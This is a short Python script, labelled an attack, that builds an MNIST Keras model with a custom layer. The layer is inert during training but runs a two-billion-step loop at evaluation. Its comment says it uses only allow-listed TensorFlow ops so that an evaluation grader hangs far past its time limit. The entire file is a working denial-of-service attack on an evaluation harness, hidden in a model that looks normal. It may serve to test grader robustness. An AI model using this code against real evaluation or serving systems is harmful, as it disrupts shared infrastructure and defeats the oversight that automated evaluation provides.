# Attack: keep the grader busy long after the time limit. The layer does nothing while training,
# but the exported graph loops two billion times per batch; every op of it (While, Less, AddV2,
# Mul) is on the evaluation's allow-list, and the evaluation waits for it far past the deadline.
import tensorflow as tf

(x, y), _ = tf.keras.datasets.mnist.load_data()


class Spin(tf.keras.layers.Layer):
    def call(self, inputs, training=None):
        if training:
            return inputs
        _, out = tf.while_loop(lambda i, v: i < 2_000_000_000, lambda i, v: (i + 1, v * 1.0000001), (tf.constant(0), inputs))
        return out


model = tf.keras.Sequential([tf.keras.Input((28, 28)), tf.keras.layers.Flatten(), tf.keras.layers.Dense(10), Spin(), tf.keras.layers.Softmax()])
model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
model.fit(x[:1000] / 255.0, y[:1000], epochs=1, verbose=0)
